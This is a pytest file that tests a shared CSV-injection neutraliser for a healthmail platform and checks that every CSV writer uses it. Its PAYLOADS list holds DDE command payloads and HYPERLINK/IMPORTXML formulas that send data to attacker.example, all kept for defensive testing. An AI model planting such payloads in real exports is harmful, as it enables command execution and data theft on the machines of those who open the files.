"""One neutraliser for every CSV the platform writes (healthmail/spreadsheet.py, OWASP "CSV
Injection"): the payloads are quoted, plain text is left alone, the quote can be undone exactly,
and no module writes a CSV without it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from healthmail.spreadsheet import spreadsheet_safe, spreadsheet_value

ROOT = Path(__file__).resolve().parents[2]

# Written from the payloads of the OWASP "CSV Injection" page and the payloadbox /
# PayloadsAllTheThings collections: DDE, arithmetic prefixes, HYPERLINK exfiltration, IMPORTXML,
# the whitespace / control-character variants some spreadsheets skip before a formula, and the
# full-width signs some read as their ASCII forms.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+hack(cmd|'/c calc.exe'!A",
    "-2+3+cmd|'/C calc'!A1",
    '=HYPERLINK("http://attacker.example?leak="&A1,"Click me")',
    '=IMPORTXML("http://attacker.example/x.xml","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(1+1)",
    "\u00a0+1",
    '=cmd|"/C notepad"!"A1"',
    "|calc",
    "%0A=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff20SUM(A1)",
]
HARMLESS = ["Dana", "a=b", "O'Neil", "Anne-Marie", "50% off", "Book a visit", "fewer than 11"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_quoted(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_is_left_alone(text):
    assert spreadsheet_safe(text) == text


def test_nothing_is_an_empty_cell():
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe("") == ""


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS, "", "'", "'quoted", "''=1", "' =1"])
def test_the_quote_is_undone_exactly(text):
    """A leading quote is quoted too, so reading a cell back gives the text it was written from
    (the audit export's chain is recomputed from its CSV)."""
    assert spreadsheet_value(spreadsheet_safe(text)) == text


def test_every_csv_writer_uses_the_shared_neutraliser():
    """A module that writes CSV imports `spreadsheet_safe`, and none keeps its own list of formula
    signs (the copies in the audit export and the campaign report were removed for this)."""
    skip = {"tests", "bench", "node_modules", ".venv", ".devstack", "migrations"}
    writers, copies = [], []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if skip & set(relative.parts) or relative == Path("healthmail/spreadsheet.py"):
            continue
        source = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(", source):
            writers.append(str(relative))
            assert "spreadsheet_safe" in source, f"{relative} writes CSV without spreadsheet_safe"
        if re.search(r"""startswith\(\s*\(\s*["']=["']""", source) or "FORMULA_START" in source:
            copies.append(str(relative))
    assert len(writers) >= 4, writers  # contact export, import report, campaign report, audit export
    assert not copies, f"formula neutralisers outside healthmail/spreadsheet.py: {copies}"
